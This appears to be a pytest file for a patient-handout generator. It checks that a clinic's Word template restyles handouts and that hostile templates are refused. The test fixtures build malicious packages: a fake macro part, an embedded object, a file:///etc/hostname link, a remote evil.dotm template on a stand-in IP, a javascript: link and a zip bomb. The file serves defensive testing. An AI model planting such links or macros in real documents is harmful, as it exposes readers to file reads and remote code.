"""A clinic's own Word template: its styles restyle the handouts, and it is untrusted input like the deck template
(no macros, embedded objects or outside links, bounded sizes), refused at the brand file's line naming the file."""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import FIXTURES, copy_project, run_cli
from docx.shared import Pt, RGBColor
from docx_read import W, block_items, paragraph_text

BRAND = """id: testclinic
name: Test Clinic
phone: (555) 010-0100
web: https://test-clinic.example/{topic}
logo: content/brands/riverside-logo.png
colors:
  primary: "#225588"
  secondary: "#eef2f8"
docx_template: content/brands/clinic.dotx
"""
TEMPLATE_LINE = "content/brands/testclinic.yaml:9:16"
_TEMPLATE_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
_DOCUMENT_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def clinic_template(as_template: bool = True) -> bytes:
    """Return a clinic's template: Arial body text, dark red Georgia headings, a letterhead and a locked editing
    setting, and some text of its own (none of which but the looks may reach a handout)."""
    document = docx.Document()
    normal = document.styles["Normal"]
    normal.font.name = "Arial"
    normal.font.size = Pt(11)
    heading = document.styles["Heading 2"]
    heading.font.name = "Georgia"
    heading.font.color.rgb = RGBColor(0x8B, 0x00, 0x00)
    document.add_paragraph("TEMPLATE BODY TEXT")
    document.sections[0].header.paragraphs[0].text = "TEMPLATE LETTERHEAD"
    document.sections[0].left_margin = Pt(50)
    settings = document.settings.element
    protection = settings.makeelement(f"{W}documentProtection", {f"{W}edit": "readOnly", f"{W}enforcement": "1"})
    settings.insert(0, protection)
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    return (
        _rewrite(data, {"[Content_Types].xml": lambda x: x.replace(_DOCUMENT_TYPE, _TEMPLATE_TYPE)})
        if as_template
        else data
    )


def _rewrite(data: bytes, changes: dict[str, object]) -> bytes:
    """Return the package `data` with members changed (a function of their bytes), added (bytes) or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            change = changes.get(item.filename, "keep")
            member = source.read(item.filename)
            if change is None:
                continue
            target.writestr(item, change(member) if callable(change) else member)  # type: ignore[operator]
        for name, change in changes.items():
            if name not in source.namelist() and isinstance(change, bytes):
                target.writestr(name, change)
    return out.getvalue()


def _external(kind: str, target: str, rel_type: str = "") -> bytes:
    return (
        f'<Relationship Id="rIdX9" Type="{rel_type or f"{_RT}/{kind}"}" Target="{target}" TargetMode="External"/>'
    ).encode()


def _with_rel(rel: bytes, part: str = "word/_rels/document.xml.rels") -> dict[str, object]:
    return {part: lambda x: x.replace(b"</Relationships>", rel + b"</Relationships>")}


_MACRO_TYPE = (
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
_SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    + _external("attachedTemplate", "https://198.51.100.7/evil.dotm")
    + b"</Relationships>"
)
HOSTILE = {
    "macro-enabled": (
        {
            "word/vbaProject.bin": bytes(512),
            "[Content_Types].xml": lambda x: x.replace(b"</Types>", _MACRO_TYPE + b"</Types>"),
        },
        "macros",
    ),
    "embedded-object": ({"word/embeddings/oleObject1.bin": bytes(512)}, "embedded objects"),
    "file-link": (_with_rel(_external("image", "file:///etc/hostname")), "file:///etc/hostname"),
    "http-link": (_with_rel(_external("image", "http://198.51.100.7/p.png")), "http://198.51.100.7"),
    "javascript-link": (_with_rel(_external("hyperlink", "javascript:alert(1)")), "javascript:"),
    "remote-template": ({"word/_rels/settings.xml.rels": _SETTINGS_RELS}, "attachedTemplate"),
    "zip-bomb": ({"word/media/bomb.bin": bytes(40 * 1024 * 1024)}, "compressed"),
}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with the foot-care topic (small: it fits in any clinic's typeface) and the test clinic's brand."""
    root = copy_project(tmp_path_factory.mktemp("clinic"))
    shutil.copy(FIXTURES / "topics" / "foot-care.yaml", root / "content" / "foot-care.yaml")
    (root / "content" / "figures").mkdir(exist_ok=True)
    shutil.copytree(FIXTURES / "topics" / "figures", root / "content" / "figures", dirs_exist_ok=True)
    (root / "content" / "brands" / "testclinic.yaml").write_text(BRAND, encoding="utf-8")
    return root


@pytest.fixture
def project(base: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(base, tmp_path / "project"))


def build(project: Path, *extra: str) -> object:
    args = ("--topic", "foot-care", "--only", "patient-handout-docx", "--brand", "testclinic", "--paper", "letter")
    return run_cli("build", *args, *extra, cwd=project)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_word_template_is_refused_at_its_brand_line(project: Path, name: str) -> None:
    changes, fragment = HOSTILE[name]
    (project / "content" / "brands" / "clinic.dotx").write_bytes(_rewrite(clinic_template(), changes))
    result = build(project)
    assert result.code == 2, result.err  # type: ignore[attr-defined]
    lines = [line for line in result.err.splitlines() if TEMPLATE_LINE in line]  # type: ignore[attr-defined]
    assert len(lines) == 1, result.err  # type: ignore[attr-defined]
    assert lines[0].startswith(f"{TEMPLATE_LINE}: the template content/brands/clinic.dotx "), lines[0]
    assert fragment in lines[0]
    assert "Traceback" not in result.err  # type: ignore[attr-defined]
    assert not (project / "output" / "testclinic").exists()


def test_check_finds_a_hostile_template_before_any_build(project: Path) -> None:
    (project / "content" / "brands" / "clinic.dotx").write_bytes(_rewrite(clinic_template(), HOSTILE["file-link"][0]))
    settings = project / "handouts.yaml"
    text = settings.read_text(encoding="utf-8").replace("brands: [none, riverside, lakeview]", "brands: [testclinic]")
    settings.write_text(text + "  variants: [patient-handout-docx]\n", encoding="utf-8")
    result = run_cli("check", "content/foot-care.yaml", cwd=project)
    assert result.code == 2 and "file:///etc/hostname" in result.err, result.err
    assert not (project / "output" / "testclinic").exists()


def test_a_file_that_is_not_a_word_template_is_refused(project: Path) -> None:
    (project / "content" / "brands" / "clinic.dotx").write_bytes(b"<html>not a template</html>")
    result = build(project)
    assert (
        result.code == 2
        and f"{TEMPLATE_LINE}: the template content/brands/clinic.dotx is not a Word file" in result.err
    )


def test_a_template_with_an_https_link_is_accepted(project: Path) -> None:
    link = _with_rel(_external("hyperlink", "https://clinic.example/"))
    (project / "content" / "brands" / "clinic.dotx").write_bytes(_rewrite(clinic_template(), link))
    result = build(project)
    assert result.code == 0, result.err


@pytest.mark.parametrize("suffix", ["dotx", "docx"])
def test_the_clinics_styles_restyle_the_handout_and_nothing_else_of_the_template_comes_along(
    project: Path, suffix: str
) -> None:
    brand = project / "content" / "brands" / "testclinic.yaml"
    brand.write_text(BRAND.replace("clinic.dotx", f"clinic.{suffix}"), encoding="utf-8")
    (project / "content" / "brands" / f"clinic.{suffix}").write_bytes(clinic_template(as_template=suffix == "dotx"))
    result = build(project)
    assert result.code == 0, result.err
    path = project / "output" / "testclinic" / "foot-care" / "patient-handout-docx-letter.docx"
    document = docx.Document(str(path))
    styles = document.styles
    # The clinic's own styles are kept as it made them...
    assert styles["Normal"].font.name == "Arial" and styles["Normal"].font.size == Pt(11)
    assert styles["Heading 2"].font.name == "Georgia"
    assert str(styles["Heading 2"].font.color.rgb) == "8B0000"
    # ... the ones it lacks are added, on its Normal (so in its typeface) ...
    for name in ("List Checkbox", "Callout Label", "Table Text", "Question", "Space After Box"):
        assert styles[name].base_style.name == "Normal" and styles[name].font.name is None
    # ... and the handout uses them.
    headings = [p for p in document.paragraphs if p.style.name == "Heading 2"]
    assert [p.text for p in headings][:1] == ["What to do every day"]
    # Its page margins are the clinic's; its text, letterhead and editing lock are not carried over.
    assert document.sections[0].left_margin == Pt(50)
    everything = "".join(paragraph_text(p) for p in block_items(document.element.body))
    parts = b"".join(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist())
    assert "TEMPLATE BODY TEXT" not in everything and b"TEMPLATE" not in parts
    assert document.settings.element.find(f"{W}documentProtection") is None
    assert b"thumbnail" not in parts


def test_a_roomy_template_that_pushes_a_topic_over_its_pages_is_named_in_the_hint(project: Path) -> None:
    # The clinic's template sets Normal at 11 pt with 10 pt after each paragraph and 1.15 lines, and wide margins:
    # the B12 handout runs over its two pages, and the author learns the template is one of the things to change.
    (project / "content" / "brands" / "clinic.dotx").write_bytes(clinic_template())
    args = ("--topic", "b12-neuropathy", "--only", "patient-handout-docx", "--brand", "testclinic", "--paper", "a4")
    result = run_cli("build", *args, cwd=project)
    assert result.code == 1, result.err
    assert "does not fit its 2 pages" in result.err
    assert "give the styles of content/brands/clinic.dotx smaller type, closer spacing or margins" in result.err
